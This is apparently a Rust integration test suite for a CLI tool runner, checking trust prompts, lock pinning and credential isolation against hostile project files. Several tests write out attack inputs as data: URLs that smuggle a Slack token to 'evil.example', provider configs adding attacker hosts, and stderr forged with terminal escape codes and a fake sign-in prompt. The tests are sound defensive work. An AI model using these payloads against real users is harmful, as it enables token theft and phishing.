//! What a stranger could try by a project's files, a tool or a provider: each story runs the whole binary.

use std::{net::TcpListener, path::Path};

use pocket_tests::{Browser, PocketCommand, SlackCommand, SlackSettings, folder_of, sample};
use serde_json::json;

fn manifest(name: &str) -> serde_json::Value {
    json!({ "tool": { "name": name, "description": "A tool of the tests." }, "component": "tool.wasm" })
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).expect("the file can be read")
}

/// A project with one tool of a folder, added on a person's word.
fn with_a_tool() -> PocketCommand {
    let pocket = PocketCommand::new();
    folder_of(&pocket.project(), "print_args", &manifest("print"));
    let added = pocket.run(["add", "./print_args", "--name", "mine"]);
    assert_eq!(added.code, 0, "{}", added.stderr);
    pocket
}

#[test]
fn a_lock_cannot_run_another_source_than_the_one_a_person_reads() {
    let pocket = with_a_tool();
    folder_of(&pocket.project(), "print_env", &manifest("evil"));
    let lock = read(&pocket.project().join("pocket.lock"));
    pocket.write("pocket.lock", &lock.replace("./print_args", "./print_env"));
    assert_eq!(pocket.run(["trust", "--yes"]).code, 0);
    let ran = pocket.run(["run", "mine", "{}"]);
    assert_eq!(ran.code, 0, "{} {}", ran.stdout, ran.stderr);
    assert!(!ran.stdout.contains("variables"), "the other one ran: {}", ran.stdout);
    let lock = read(&pocket.project().join("pocket.lock"));
    assert!(!lock.contains("./print_env"), "it was pinned anew: {lock}");
    let again = pocket.run(["run", "mine", "{}"]);
    assert_eq!(again.code, 0, "the project is still trusted: {}", again.stderr);
}

#[test]
fn what_a_lock_grants_is_shown_before_it_is_trusted() {
    let pocket = with_a_tool();
    let lock = read(&pocket.project().join("pocket.lock"));
    let grant = "credential = \"given\"\nhttp = [{ rule = \"https://evil.example\", private = true }]\nfiles = [{ guest = \"/all\", folder = \"/\", access = \"write\" }]\n";
    let start = lock.find("[tools.mine.grant]\n").expect("a tool has a grant") + "[tools.mine.grant]\n".len();
    pocket.write("pocket.lock", &format!("{}{grant}", &lock[..start]));
    let shown = pocket.run(["trust"]);
    assert_eq!(shown.code, 4, "{}", shown.stderr);
    for part in [
        "mine",
        "credential",
        "https://evil.example",
        "private",
        "/all",
        "\"/\"",
        "write",
    ] {
        assert!(shown.stderr.contains(part), "{part}: {}", shown.stderr);
    }
}

#[test]
fn the_hosts_and_endpoints_of_a_changed_provider_are_shown_before_they_are_trusted() {
    let pocket = PocketCommand::new();
    pocket.write(
        "pocket.toml",
        "[providers.slack]\nhosts = [\"slack.com\", \"evil.example\"]\noauth2.token = \"https://evil.example/\\u001btoken\"\n",
    );
    let shown = pocket.run(["trust"]);
    assert!(shown.stderr.contains("evil.example\""), "{}", shown.stderr);
    assert!(shown.stderr.contains("https://evil.example/\\"), "{}", shown.stderr);
    assert!(!shown.stderr.contains('\u{1b}'), "{}", shown.stderr);
}

#[test]
fn a_deny_rule_that_goes_away_asks_again() {
    let pocket = with_a_tool();
    let file = read(&pocket.project().join("pocket.toml"));
    pocket.write(
        "pocket.toml",
        &format!("{file}[deny]\nhttp = [\"https://evil.example\"]\n"),
    );
    assert_eq!(pocket.run(["trust", "--yes"]).code, 0);
    assert_eq!(pocket.run(["run", "mine"]).code, 0);
    pocket.write("pocket.toml", &file);
    let ran = pocket.run(["run", "mine"]);
    assert_eq!(ran.code, 4, "{}", ran.stderr);
}

/// A server that nobody ought to call.
fn silent() -> (TcpListener, String) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("loopback has a free port");
    listener.set_nonblocking(true).expect("a socket can be set so");
    let address = listener.local_addr().expect("a bound socket has an address");
    (listener, format!("http://{address}/tools.git"))
}

#[test]
fn listing_the_tools_of_a_project_that_nobody_trusts_calls_no_server() {
    let pocket = PocketCommand::new();
    let (listener, url) = silent();
    let digest = format!("sha256:{}", "0".repeat(64));
    pocket.write("pocket.toml", &format!("[tools.x]\nsource = \"{url}\"\n"));
    pocket.write(
        "pocket.lock",
        &format!(
            "version = 1\n[tools.x]\nsource = \"{url}\"\ncommit = \"{}\"\nfolder = \"\"\ntree = \"{digest}\"\nmanifest = \"{digest}\"\ncomponent = \"{digest}\"\nagreed = \"{digest}\"\n",
            "0".repeat(40)
        ),
    );
    let listed = pocket.run(["list"]);
    assert_eq!(listed.code, 0, "{}", listed.stderr);
    assert!(listener.accept().is_err(), "it was called: {}", listed.stdout);
    assert!(listed.stdout.contains("not fetched"), "{}", listed.stdout);
}

#[test]
fn a_file_of_a_project_that_never_ends_or_never_begins_is_refused() {
    use std::os::unix::fs::symlink;
    for name in ["pocket.toml", ".secrets.toml", "pocket.lock", "ca.pem"] {
        let pocket = PocketCommand::new();
        if name == "ca.pem" {
            pocket.write("pocket.toml", "[network]\nca_file = \"ca.pem\"\n");
        }
        symlink("/dev/zero", pocket.project().join(name)).expect("a link can be made");
        let ended = pocket.run(["list"]);
        assert_eq!(ended.code, 5, "{name}: {}", ended.stderr);
        std::fs::remove_file(pocket.project().join(name)).expect("the link can be removed");
        let made = std::process::Command::new("mkfifo")
            .arg(pocket.project().join(name))
            .status()
            .expect("mkfifo is there");
        assert!(made.success());
        let ended = pocket.run(["list"]);
        assert_eq!(ended.code, 5, "{name}: {}", ended.stderr);
    }
}

#[test]
fn yes_with_a_digest_agrees_to_that_digest_alone_even_where_nothing_is_asked() {
    let pocket = PocketCommand::new();
    let other = format!("--yes=sha256:{}", "0".repeat(64));
    let tool = sample("echo").display().to_string();
    for verb in ["run", "add"] {
        let ended = pocket.run([verb, &tool, &other]);
        assert_eq!(ended.code, 4, "{verb}: {} {}", ended.stdout, ended.stderr);
    }
    assert!(!pocket.project().join("pocket.toml").exists(), "nothing was added");
}

#[test]
fn set_does_not_choose_between_two_keys_of_one_name() {
    let pocket = PocketCommand::new();
    let tool = sample("echo").display().to_string();
    let ended = pocket.run(["run", &tool, r#"{"a": 1, "a": 2}"#, "--set", "b=1"]);
    assert_eq!((ended.code, ended.stdout.as_str()), (2, ""), "{}", ended.stderr);
    let ended = pocket.run(["run", &tool, "{}", "--set", r#"b={"a": 1, "a": 2}"#]);
    assert_eq!((ended.code, ended.stdout.as_str()), (2, ""), "{}", ended.stderr);
}

#[test]
fn the_words_of_a_tool_that_fails_do_not_look_like_ours() {
    let pocket = PocketCommand::new();
    folder_of(&pocket.project(), "exit_code", &manifest("exit"));
    folder_of(&pocket.project(), "print", &manifest("print"));
    let forged =
        json!({ "stdout": "{}", "stderr": "a\u{1b}[2J\u{9b}31m\u{202e}\nSign in to Slack:\n  https://evil.example\n" });
    let ended = pocket.run(["run", "./print", &forged.to_string()]);
    assert_eq!(ended.code, 0, "{}", ended.stderr);
    for line in ended.stderr.lines() {
        assert!(line.starts_with("log:"), "{}", ended.stderr);
        assert!(!line.contains(['\u{1b}', '\u{9b}', '\u{202e}']), "{}", ended.stderr);
    }
}

/// As a project would that sends tokens to another host too.
fn add_host(story: &SlackCommand) {
    let host = story.slack.host();
    let file = read(&story.pocket.project().join("pocket.toml"));
    let more = file.replace(&format!("[\"{host}\"]"), &format!("[\"{host}\", \"evil.example\"]"));
    assert_ne!(file, more);
    story.pocket.write("pocket.toml", &more);
}

const HISTORY: &str = r#"{"channel": "C123", "limit": 1}"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_token_is_not_given_to_hosts_that_a_project_adds_to_its_provider() {
    let story = SlackCommand::start(SlackSettings::default()).await;
    let mut args = story.run("slack-get-messages", HISTORY);
    assert_eq!(story.sign_in(&args, "allow").await.code, 0);
    args.push("--no-wait".to_owned());
    assert_eq!(story.pocket.run(&args).code, 0, "the account is ready");
    add_host(&story);
    let ended = story.pocket.run(&args);
    assert_eq!(ended.code, 3, "{} {}", ended.stdout, ended.stderr);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_typed_token_is_not_given_to_hosts_that_a_project_adds_to_its_provider() {
    let story = SlackCommand::start(SlackSettings::default()).await;
    let token = story.slack.issue(&["channels:history"]);
    story.type_token(&token).await;
    let mut asks = manifest("spill");
    asks["auth"] = json!({ "auth_provider": "slack", "auth_handler": "slack-token" });
    let tool = folder_of(&story.pocket.project(), "print_args", &asks);
    let mut args = story.slack.run(&tool, "{}");
    args.push("--no-wait".to_owned());
    let inspected = story.pocket.run(["inspect", "./print_args", "--json"]);
    let inspected: serde_json::Value = serde_json::from_str(&inspected.stdout).expect("JSON");
    args.push(format!("--yes={}", inspected["digest"].as_str().expect("a digest")));
    args[1] = "./print_args".to_owned();
    let ended = story.pocket.run(&args);
    assert_eq!(ended.code, 0, "{}", ended.stderr);
    add_host(&story);
    let ended = story.pocket.run(&args);
    assert_eq!(ended.code, 3, "{} {}", ended.stdout, ended.stderr);
}

#[tokio::test(flavor = "multi_thread")]
async fn f_60_no_log_of_any_library_shows_a_secret() {
    let mut story = SlackCommand::start(SlackSettings::default()).await;
    story.pocket.set("POCKET_LOG", "trace");
    let mut everything = String::new();
    let args = story.run("slack-get-messages", HISTORY);
    let ended = story.sign_in(&args, "allow").await;
    assert_eq!(ended.code, 0, "{}", ended.stderr);
    everything.push_str(&ended.stderr);
    let again = story.pocket.run(&args);
    everything.push_str(&again.stderr);
    assert!(everything.contains("TRACE"), "the libraries were heard: {everything}");
    for token in story.slack.tokens() {
        let at = everything.find(&token);
        assert!(
            at.is_none(),
            "{:?}",
            at.map(|at| &everything[at.saturating_sub(400)..at])
        );
    }
    let at = everything.find("planted");
    assert!(
        at.is_none(),
        "{:?}",
        at.map(|at| &everything[at.saturating_sub(400)..at])
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_credential_granted_to_a_tool_for_one_profile_is_not_granted_for_another() {
    let story = SlackCommand::start(SlackSettings::default()).await;
    let mut args = story.run("slack-get-messages", HISTORY);
    args.extend(["--profile".to_owned(), "alice".to_owned()]);
    assert_eq!(story.sign_in(&args, "allow").await.code, 0);
    let mut login = ["auth", "login", "slack", "--profile", "bob", "--no-browser"]
        .map(ToOwned::to_owned)
        .to_vec();
    for kind in ["channels", "groups", "im", "mpim"] {
        login.push(format!("--scope={kind}:history"));
    }
    assert_eq!(story.sign_in(&login, "allow").await.code, 0);
    let calls = story.slack.api_calls();
    *args.last_mut().expect("a profile") = "bob".to_owned();
    let ended = story.pocket.run(&args);
    assert_eq!(ended.code, 4, "{} {}", ended.stdout, ended.stderr);
    assert_eq!(story.slack.api_calls(), calls, "the tool never ran");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tool_that_was_added_is_given_a_credential_by_each_profile_for_itself() {
    let story = SlackCommand::start(SlackSettings::default()).await;
    let mut add = story.run("slack-get-messages", HISTORY);
    add.retain(|part| part != HISTORY && part != "--no-browser");
    "add".clone_into(&mut add[0]);
    add.push("--yes".to_owned());
    let added = story.pocket.run(&add);
    assert_eq!(added.code, 0, "{}", added.stderr);
    let scopes = ["channels", "groups", "im", "mpim"].map(|kind| format!("--scope={kind}:history"));
    let mut call = ["run", "slack_get_messages", HISTORY, "--no-browser", "--profile=alice"]
        .map(ToOwned::to_owned)
        .to_vec();
    let first = story.sign_in(&call, "allow").await;
    assert_eq!(first.code, 0, "{}", first.stderr);
    assert_eq!(story.pocket.run(&call).code, 0, "it was given for good");
    let mut login = ["auth", "login", "slack", "--profile=bob", "--no-browser"]
        .map(ToOwned::to_owned)
        .to_vec();
    login.extend(scopes);
    assert_eq!(story.sign_in(&login, "allow").await.code, 0);
    let calls = story.slack.api_calls();
    "--profile=bob".clone_into(call.last_mut().expect("a profile"));
    let ended = story.pocket.run(&call);
    assert_eq!(ended.code, 4, "{} {}", ended.stdout, ended.stderr);
    assert!(
        ended.stderr.contains("was not granted your slack credential"),
        "{}",
        ended.stderr
    );
    assert_eq!(story.slack.api_calls(), calls, "the tool never ran");
    let listed = |profile: &str| {
        let listed = story.pocket.run(["list", profile]).stdout;
        listed.contains("withheld")
    };
    assert!(listed("--profile=bob") && !listed("--profile=alice"));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_echoed_token_is_found_wherever_it_is_printed() {
    let story = SlackCommand::start(SlackSettings::default()).await;
    let token = story.slack.issue(&["channels:history"]);
    story.type_token(&token).await;
    let mut asks = manifest("spill");
    asks["auth"] = json!({ "auth_provider": "slack", "auth_handler": "slack-token" });
    folder_of(&story.pocket.project(), "dial", &asks);
    let inspected = story.pocket.run(["inspect", "./dial", "--json"]);
    let inspected: serde_json::Value = serde_json::from_str(&inspected.stdout).expect("JSON");
    let yes = format!("--yes={}", inspected["digest"].as_str().expect("a digest"));
    for input in [
        json!({ "url": "https://{token}.evil.example/", "token": "SLACK_BOT_TOKEN" }),
        json!({ "url": "https://evil.example/{token}?{token}", "token": "SLACK_BOT_TOKEN", "fail": true }),
        json!({ "url": "https://evil.example/", "method": "{token}", "token": "SLACK_BOT_TOKEN" }),
        json!({ "url": "https://user:{token}@evil.example/", "token": "SLACK_BOT_TOKEN", "fail": true }),
        json!({ "url": "{token}://evil.example/", "token": "SLACK_BOT_TOKEN", "fail": true }),
    ] {
        for json in [true, false] {
            let mut args = vec!["run", "./dial"]
                .into_iter()
                .map(ToOwned::to_owned)
                .collect::<Vec<_>>();
            args.extend([input.to_string(), yes.clone()]);
            args.extend(json.then(|| "--json".to_owned()));
            let ended = story.pocket.run(&args);
            let everything = format!("{}{}", ended.stdout, ended.stderr).to_lowercase();
            assert!(!everything.contains(&token.to_lowercase()), "{input}: {everything}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_project_that_changes_while_a_person_answers_is_not_trusted_by_that_answer() {
    let mut story = SlackCommand::start(SlackSettings::default()).await;
    story.pocket.set("POCKET_TRUST_PROJECT", "0");
    assert_eq!(story.pocket.run(["trust", "--yes"]).code, 0);
    let added = story.pocket.run([
        "add".to_owned(),
        sample("slack-get-messages").display().to_string(),
        "--name=history".to_owned(),
        "--yes".to_owned(),
        format!("--variable=SLACK_API_URL={}/api", story.slack.url()),
        format!("--allow-private={}", story.slack.url()),
    ]);
    assert_eq!(added.code, 0, "{}", added.stderr);
    let mut running = story.pocket.start(["run", "history", HISTORY, "--no-browser"]);
    let url = running.word("https://localhost:");
    let before = read(&story.pocket.project().join("pocket.toml"));
    story.pocket.write(
        "pocket.toml",
        &format!("{before}[tools.evil]\nsource = \"./evil\"\ngrant.http = [\"https://evil.example\"]\n"),
    );
    let mut browser = Browser::new();
    let page = browser.open(&url).await;
    let consent = browser.submit(&page, &[]).await;
    browser.submit(&consent, &[("decision", "allow")]).await;
    running.ended().await;
    let ended = story.pocket.run(["run", "history", HISTORY]);
    assert_eq!(ended.code, 4, "{} {}", ended.stdout, ended.stderr);
    assert!(ended.stderr.contains("pocket trust"), "{}", ended.stderr);
}

#[test]
fn a_tool_that_was_never_pinned_does_not_end_the_trust_in_its_project() {
    let pocket = PocketCommand::new();
    folder_of(&pocket.project(), "print_args", &manifest("print"));
    pocket.write("pocket.toml", "[tools.mine]\nsource = \"./print_args\"\n");
    assert_eq!(pocket.run(["trust", "--yes"]).code, 0);
    for _again in 0..2 {
        let ran = pocket.run(["run", "mine"]);
        assert_eq!(ran.code, 0, "{}", ran.stderr);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_cloned_project_with_its_own_provider_grants_and_lock_gets_no_token() {
    let mut story = SlackCommand::start(SlackSettings::default()).await;
    let args = story.run("slack-get-messages", HISTORY);
    assert_eq!(story.sign_in(&args, "allow").await.code, 0);
    let added = story.pocket.run([
        "add".to_owned(),
        sample("slack-get-messages").display().to_string(),
        "--name=history".to_owned(),
        "--yes".to_owned(),
        format!("--variable=SLACK_API_URL={}/api", story.slack.url()),
        format!("--allow-private={}", story.slack.url()),
    ]);
    assert_eq!(added.code, 0, "{}", added.stderr);
    let evil = pocket_tests::Recorder::start().await;
    let clone = story.pocket.user_home().join("clone");
    std::fs::create_dir(&clone).expect("a folder can be made");
    for name in ["pocket.toml", "pocket.lock", ".secrets.toml", "authority.pem"] {
        let text = read(&story.pocket.project().join(name));
        let text = text.replace(&story.slack.url(), &evil.url());
        let text = text.replace(&story.slack.host(), &format!("127.0.0.1:{}", evil.port()));
        let text = text.replace("\"withheld\"", "\"given\"");
        std::fs::write(clone.join(name), text).expect("a file can be written");
    }
    let (calls, tokens) = (story.slack.api_calls(), story.slack.token_requests());
    let clone = clone.display().to_string();
    for trusted in ["0", "1"] {
        story.pocket.set("POCKET_TRUST_PROJECT", trusted);
        for run in [
            vec!["run", "history", HISTORY, "--no-wait"],
            vec!["auth", "status"],
            vec!["auth", "logout", "slack", "--profile", "somebody"],
        ] {
            let ended = story.pocket.run([&["--project", &clone], &run[..]].concat());
            let ran = run[0] != "run" || matches!(ended.code, 3 | 4);
            assert!(ran, "{trusted} {run:?}: {} {}", ended.stdout, ended.stderr);
        }
    }
    assert!(evil.seen().is_empty(), "nothing was sent there");
    assert_eq!((story.slack.api_calls(), story.slack.token_requests()), (calls, tokens));
    let again = story.pocket.run(&args);
    assert_eq!(
        again.code, 0,
        "the user's own project works as before: {}",
        again.stderr
    );
}
